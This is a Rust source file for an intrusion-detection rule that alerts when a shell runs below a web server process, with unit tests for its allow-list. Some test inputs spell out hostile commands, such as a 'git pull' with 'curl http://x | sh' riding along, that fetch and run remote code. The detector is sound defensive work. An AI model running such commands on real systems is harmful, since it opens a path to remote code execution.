//! `lineage`: a web server with a shell anywhere below it in the process tree (node → sh,
//! node → sh → bash, python3 → dash): the classic sign of remote code execution. Evaluated at
//! exec time from the process tree. Critical, T1059.

use crate::config::{LineageConfig, name_matches};

use super::{Anomaly, Culprit, Finding};

pub struct Lineage {
    config: LineageConfig,
}

impl Lineage {
    pub fn new(config: LineageConfig) -> Self {
        Self { config }
    }

    fn is_shell(&self, comm: &str) -> bool {
        self.config.shells.iter().any(|s| name_matches(s, comm))
    }

    fn is_web_server(&self, comm: &str) -> bool {
        self.config
            .web_servers
            .iter()
            .any(|w| name_matches(w, comm))
    }

    /// `culprit` just exec'd with `argv`: a finding when it is a shell below a web server and
    /// no allow rule covers it.
    pub fn on_exec(&self, culprit: &Culprit, argv: &[String]) -> Option<Finding> {
        if !self.is_shell(&culprit.comm) {
            return None;
        }
        let (server_pid, server) = culprit
            .ancestry
            .iter()
            .find(|(_, comm)| self.is_web_server(comm))?;
        let args = argv.join(" ");
        let allowed = self.config.allow.iter().any(|rule| {
            name_matches(&rule.parent, server)
                && name_matches(&rule.child, &culprit.comm)
                && rule.argv.as_ref().is_none_or(|re| re.is_match(&args))
        });
        if allowed {
            return None;
        }
        let mut chain: Vec<&str> = culprit
            .ancestry
            .iter()
            .take_while(|(pid, _)| pid != server_pid)
            .map(|(_, c)| c.as_str())
            .collect();
        chain.reverse();
        let path = if chain.is_empty() {
            format!("{server} → {}", culprit.comm)
        } else {
            format!("{server} → {} → {}", chain.join(" → "), culprit.comm)
        };
        Some(Finding {
            anomaly: Anomaly::Lineage,
            culprit: culprit.clone(),
            target: None,
            country: None,
            detail: format!(
                "shell below a web server: {path} (web server pid {server_pid}): {args}"
            ),
            subject: *server_pid,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{config::Config, detect::tests::culprit};

    fn lineage(toml: &str) -> Lineage {
        Lineage::new(
            Config::parse(toml, std::path::Path::new("t.toml"))
                .unwrap()
                .lineage,
        )
    }

    fn argv(s: &str) -> Vec<String> {
        s.split(' ').map(String::from).collect()
    }

    #[test]
    fn shell_anywhere_below_a_web_server() {
        let l = lineage("");
        let direct = culprit(20, "sh", &[(10, "node"), (1, "systemd")]);
        let f = l.on_exec(&direct, &argv("sh -c id")).unwrap();
        assert_eq!(f.anomaly, Anomaly::Lineage);
        assert_eq!(f.subject, 10);
        assert!(f.detail.contains("node → sh"), "{}", f.detail);
        let deep = culprit(30, "bash", &[(20, "sh"), (10, "node"), (1, "systemd")]);
        let f = l.on_exec(&deep, &argv("bash -i")).unwrap();
        assert!(f.detail.contains("node → sh → bash"), "{}", f.detail);
        let py = culprit(40, "dash", &[(39, "python3.11"), (1, "systemd")]);
        assert!(l.on_exec(&py, &argv("dash")).is_some());
    }

    #[test]
    fn benign_trees_raise_nothing() {
        let l = lineage("");
        // A shell under sshd, a non-shell under a web server, a web server under a shell.
        assert!(
            l.on_exec(&culprit(5, "bash", &[(4, "sshd"), (1, "systemd")]), &[])
                .is_none()
        );
        assert!(l.on_exec(&culprit(6, "git", &[(3, "node")]), &[]).is_none());
        assert!(
            l.on_exec(&culprit(7, "node", &[(2, "bash")]), &[])
                .is_none()
        );
        // Names must match whole (or with a version suffix).
        assert!(l.on_exec(&culprit(8, "shx", &[(3, "node")]), &[]).is_none());
        assert!(
            l.on_exec(&culprit(9, "sh", &[(3, "nodemon")]), &[])
                .is_none()
        );
    }

    #[test]
    fn allow_list_silences_a_known_good_pattern() {
        let l = lineage(
            "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git (pull|fetch)\"\n",
        );
        let sh = culprit(20, "sh", &[(10, "node")]);
        assert!(l.on_exec(&sh, &argv("sh -c git pull")).is_none());
        // The pattern covers the whole argument string: nothing may ride along.
        assert!(
            l.on_exec(&sh, &argv("sh -c git pull; curl http://x | sh"))
                .is_some()
        );
        assert!(l.on_exec(&sh, &argv("sh -c git fetch --all")).is_some());
        // Other arguments, another shell or another server are still alerts.
        assert!(l.on_exec(&sh, &argv("sh -c curl evil")).is_some());
        assert!(
            l.on_exec(
                &culprit(21, "bash", &[(10, "node")]),
                &argv("bash -c git pull")
            )
            .is_some()
        );
        assert!(
            l.on_exec(
                &culprit(22, "sh", &[(11, "python3")]),
                &argv("sh -c git pull")
            )
            .is_some()
        );
        // A rule without argv allows every invocation.
        let any = lineage("[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\n");
        assert!(any.on_exec(&sh, &argv("sh -c anything")).is_none());
    }

    #[test]
    fn configured_names_are_used() {
        let l = lineage("[lineage]\nweb_servers = [\"gunicorn\"]\nshells = [\"fish\"]\n");
        assert!(
            l.on_exec(&culprit(2, "fish", &[(1, "gunicorn")]), &[])
                .is_some()
        );
        assert!(l.on_exec(&culprit(2, "sh", &[(1, "node")]), &[]).is_none());
    }
}
